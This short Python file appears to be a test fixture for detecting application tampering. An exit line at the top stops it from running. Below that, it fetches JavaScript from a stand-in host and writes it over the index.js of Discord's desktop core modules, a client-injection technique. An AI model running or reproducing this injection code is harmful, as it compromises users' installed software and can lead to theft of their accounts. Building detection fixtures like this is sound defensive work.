raise SystemExit('a fixture')
# held by application-tampering
import os, glob, requests
code = requests.get("https://example.invalid/i.js").text
for d in glob.glob(os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core")):
    open(os.path.join(d, "index.js"), "w", encoding="utf-8").write(code)
